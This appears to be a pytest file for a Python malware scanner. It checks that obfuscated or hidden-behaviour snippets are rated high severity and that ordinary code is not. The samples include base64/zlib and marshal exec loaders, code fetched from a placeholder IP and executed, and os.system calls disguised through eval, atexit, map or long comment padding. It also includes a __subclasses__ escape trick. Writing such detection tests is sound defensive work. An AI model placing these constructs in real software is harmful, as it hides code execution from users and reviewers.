"""Python that hides what it does is seen; the same words in honest code are not."""

import pytest

from harness.inspecting import inspect_bytes
from pratique.core.finding import Severity

BAD = {
    "MAL030": [
        "import base64, zlib\nexec(zlib.decompress(base64.b64decode(open('x').read())))",
        "import requests\ncode = requests.get('http://192.0.2.1').text\nexec(code)",
        "import marshal\nexec(marshal.loads(b'x'))",
        "from urllib.request import urlopen as u\nexec(compile(u('http://192.0.2.1').read(), 'a'))",
    ],
    "MAL032": [
        "import shutil\nshutil.os.system('x')",
        "from os import *\nsystem('x')",
        "exec('import os; os.system(\"x\")')",
        'eval(\'__import__("os").system("x")\')',
        "import os\nlist(map(os.system, ['x']))",
        "import atexit, os\natexit.register(os.system, 'x')",
        "[__import__('os').system('x')]",
        "#\n" * 40_000 + "import os\nos.system('x')",
        "import subprocess\nclass A:\n  def __init__(self):\n    subprocess.run(['x'])\nA()",
    ],
    "MAL039": ["[].__class__.__base__.__subclasses__()[1]('x')"],
}


@pytest.mark.parametrize(("rule", "source"), [(r, s) for r, many in BAD.items() for s in many])
def test_hidden_behaviour_is_high(rule: str, source: str) -> None:
    told = inspect_bytes(source.encode())
    assert max(f.severity for f in told.findings if f.rule == rule) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\nx = torch.compile(model)",
        "import re\nP = re.compile('x')\nprint(P.match('x'))",
        "from subprocess import CalledProcessError as E\ntry:\n    f()\nexcept E:\n    pass",
        "import subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()",
        "import requests\n\ndef image(url):\n    return requests.get(url, stream=True).raw",
        "import os\ntoken = os.environ.get('HF_TOKEN')\nprint(os.getenv('HOME'))",
    ],
)
def test_honest_code_is_below_review(source: str) -> None:
    assert max((f.severity for f in inspect_bytes(source.encode()).findings), default=0) < 3
